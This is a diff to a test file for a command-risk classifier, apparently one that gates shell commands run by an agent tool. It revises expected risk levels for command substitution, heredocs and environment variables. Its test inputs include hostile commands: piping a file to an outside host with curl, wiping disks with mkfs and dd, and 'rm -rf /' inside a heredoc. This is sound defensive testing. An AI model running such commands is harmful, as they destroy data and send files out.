@@ -66,14 +66,17 @@ const TABLE: ReadonlyArray<readonly [string, Risk]> = [
   ["kill 1234", "high"],
   ["sudo ls", "high"],
   ["npx prettier --write .", "high"],
-  ["bash -c 'ls'", "high"],
+  ["bash -c 'ls'", "read"],
+  ["bash -c 'rm -rf build'", "high"],
   ["eval \"$CMD\"", "high"],
   ["mkfs.ext4 /dev/sda1", "blocked"],
   ["dd if=/dev/zero of=/dev/sda", "blocked"],
   ["shutdown -h now", "blocked"],
   ["some-unknown-tool --flag", "high"],
   ["env", "read"],
-  ["FOO=1 npm test", "low"],
+  ["CI=1 npm test", "low"],
+  // a variable byok does not know may change what the program runs
+  ["FOO=1 npm test", "medium"],
   ["timeout 10 npm test", "low"],
   ["npm publish", "high"]
 ]
@@ -93,13 +96,18 @@ describe("the risk of a command", () => {
     expect(classifyCommand("ls | grep foo | wc -l").risk).toBe("read")
     expect(classifyCommand("ls; rm -rf build").risk).toBe("high")
     expect(classifyCommand("cat a | curl -d @- https://x").risk).toBe("high")
-    expect(classifyCommand("echo $(cat secret)").risk).toBe("medium")
-    expect(classifyCommand("echo `whoami`").risk).toBe("medium")
+    expect(classifyCommand("echo $(cat notes)").risk).toBe("read")
+    expect(classifyCommand("echo $(rm notes)").risk).toBe("medium")
+    expect(classifyCommand("echo `whoami`").risk).toBe("read")
+    expect(classifyCommand("echo `touch x`").risk).toBe("low")
     expect(classifyCommand("echo hi > out.txt").risk).toBe("low")
     expect(classifyCommand("ls 2>&1 | head").risk).toBe("read")
     expect(classifyCommand("npm test > /dev/null").risk).toBe("low")
     expect(classifyCommand("sleep 100 &").risk).toBe("medium")
-    expect(classifyCommand("cat <<EOF\nx\nEOF").risk).toBe("high")
+    expect(classifyCommand("cat <<EOF\nx\nEOF").risk).toBe("read")
+    expect(classifyCommand("cat > notes.md <<'EOF'\n$(rm -rf /)\nEOF").risk).toBe("low")
+    expect(classifyCommand("cat <<EOF\n$(rm notes)\nEOF").risk).toBe("medium")
+    expect(classifyCommand("cat <<EOF\nno end").risk).toBe("high")
     expect(classifyCommand("echo 'unclosed").risk).toBe("high")
   })
 
